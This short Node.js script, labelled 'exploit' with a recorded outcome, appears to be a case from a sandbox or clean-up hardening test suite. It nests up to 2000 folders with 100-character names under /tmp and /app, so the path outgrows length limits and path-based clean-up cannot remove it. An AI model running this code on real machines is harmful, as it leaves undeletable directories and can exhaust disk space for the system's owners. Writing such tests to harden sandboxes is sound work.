// exploit: nests folders deeper than any path may be long, which clean-ups by path cannot remove
// outcome: finished
// says: deep
const fs = require('node:fs')
for (const root of ['/tmp', '/app']) {
  process.chdir(root)
  let depth = 0
  try {
    for (; depth < 2000; depth += 1) {
      fs.mkdirSync('n'.repeat(100))
      process.chdir('n'.repeat(100))
    }
  } catch (error) {
    if (!['ENOSPC', 'ENAMETOOLONG', 'ENOENT', 'ENOMEM'].includes(error.code)) console.log('ESCAPED', error.code)
  }
  if (depth > 30) console.log('deep')
}
